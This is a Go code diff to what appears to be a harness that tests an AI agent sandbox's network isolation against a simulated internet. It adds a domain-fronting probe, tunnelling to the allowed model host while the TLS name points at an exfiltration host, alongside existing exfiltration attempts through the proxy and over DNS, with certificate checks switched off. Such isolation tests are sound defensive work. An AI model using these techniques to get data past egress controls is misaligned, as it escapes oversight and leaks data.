@@ -32,6 +32,7 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"net/url"
 	"os"
 	"os/signal"
 	"path/filepath"
@@ -122,7 +123,14 @@ func report(who, attempt, target string, err error, detail string) bool {
 
 // httpGet sends a request through the proxy variables (viaProxy) or straight out.
 func httpGet(method, url string, viaProxy bool) (string, error) {
-	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}} // the fake internet's certificate is self-signed
+	return httpAs(method, url, viaProxy, "")
+}
+
+// httpAs is httpGet with serverName, if not empty, as the TLS server name in place of
+// the URL's host.
+func httpAs(method, url string, viaProxy bool, serverName string) (string, error) {
+	// The fake internet's certificate is self-signed.
+	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: serverName}}
 	if viaProxy {
 		tr.Proxy = http.ProxyFromEnvironment
 	}
@@ -259,6 +267,13 @@ func agent(args []string) error {
 	report("agent", "model via proxy", *model, err, "the model endpoint")
 	_, err = httpGet(http.MethodPost, *exfil, true)
 	report("agent", "exfil via proxy", *exfil, err, "POST answer=42")
+	// A front end that serves many names at one address (the fake internet, as a CDN)
+	// routes TLS by the name in the ClientHello: the tunnel goes to the allowed host,
+	// the hello names another.
+	if m, x, err := hostsOf(*model, *exfil); err == nil {
+		_, err = httpAs(http.MethodPost, "https://"+m+"/upload", true, x)
+		report("agent", "exfil via the model's address", m+" with TLS name "+x, err, "POST answer=42")
+	}
 
 	var rc Recon
 	b, err := os.ReadFile(*reconFile)
@@ -275,6 +290,19 @@ func agent(args []string) error {
 	_, err = resolve("answer-42." + rc.Name)
 	report("agent", "exfil over DNS", "answer-42."+rc.Name, err, "lookup through the environment's resolver")
 	return writeFile(*answer, []byte("42\n"))
+}
+
+// hostsOf is the host of the model's URL, with its port, and the host name of the exfil URL.
+func hostsOf(model, exfil string) (string, string, error) {
+	m, err := url.Parse(model)
+	if err != nil {
+		return "", "", err
+	}
+	x, err := url.Parse(exfil)
+	if err != nil {
+		return "", "", err
+	}
+	return m.Host, x.Hostname(), nil
 }
 
 func pack(args []string) error {
